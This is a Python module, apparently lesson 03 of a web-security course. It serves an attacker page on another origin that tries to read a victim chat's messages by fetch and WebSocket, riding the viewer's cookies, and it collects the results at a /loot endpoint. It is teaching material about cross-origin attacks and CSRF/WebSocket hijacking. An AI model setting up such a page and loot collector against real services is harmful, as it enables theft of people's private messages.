"""A page on another origin that tries to read somebody's chat, by fetch and by WebSocket.

Lesson 03.  Builds on: `net.http_server`, `victim` (its target).

    GET  /         the page: fetch(victim/messages), then new WebSocket(victim/chat)
    POST /loot     the page sends here what it could read; a real attack does so, too

New here: the page needs no password and no hole in the browser.  It sends requests, and the browser
adds the cookie of whoever looks at the page.
Left out: how to make people open the page.  A link is enough.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Self

from ...errors import LocalError
from ...net import http_server
from ...net.listening import BaseServer
from ...wire.http.http11 import Headers, Request, Response
from . import victim

PAGE = Path(__file__).with_name("attacker.html")
HTML = Headers([("Content-Type", "text/html; charset=utf-8"), ("Cache-Control", "no-store")])
MOST = 1000  # messages kept


class Page:
    """The attacker's server.  `loot` is what its page has sent to it."""

    def __init__(self, target: victim.Chat) -> None:
        self.target = target
        self.loot: list[str] = []
        self._listening: BaseServer | None = None

    def answer(self, request: Request) -> Response:
        match request.method, request.path:
            case "GET", "/":
                target = json.dumps(self.target.url).encode()
                return Response(200, HTML, PAGE.read_bytes().replace(b'"TARGET"', target))
            case "POST", "/loot" if len(self.loot) < MOST:
                self.loot.append(request.text())
                return Response(204)
        return Response(404)

    @property
    def url(self) -> str:
        """Its address, which is its origin, too."""
        if self._listening is None:
            raise LocalError("the page is not served: `await page.start()` first")
        return self._listening.url

    async def start(self) -> Self:
        if self._listening is None:
            self._listening = await http_server.serve(self.answer)
        return self

    async def close(self) -> None:
        if self._listening is not None:
            listening, self._listening = self._listening, None
            await listening.close()

    async def __aenter__(self) -> Self:
        return await self.start()

    async def __aexit__(self, *_: object) -> None:
        await self.close()
